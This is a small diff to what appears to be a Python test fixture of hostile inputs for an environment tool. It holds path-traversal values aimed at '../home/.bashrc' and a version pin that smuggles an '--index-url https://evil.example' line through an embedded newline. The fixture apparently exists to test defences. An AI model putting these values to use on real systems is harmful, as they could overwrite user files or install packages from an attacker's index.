@@ -86,7 +86,7 @@ def hostile(tmp_path: Path) -> list[Step]:
         rebuild(tmp_path / ".envmedic"),
         rebuild(tmp_path / ".envmedic" / "build" / "env" / ".." / ".." / ".." / "home"),
         conda("../home/.bashrc"),
-        conda("conda-meta/../../home/x.json"),
+        conda("conda-meta/../../home/user.json"),
         conda("conda-meta/a.json", filename="../../x.conda"),
         Pin(constraints=("numpy<2\n--index-url https://evil.example",)),
     ]
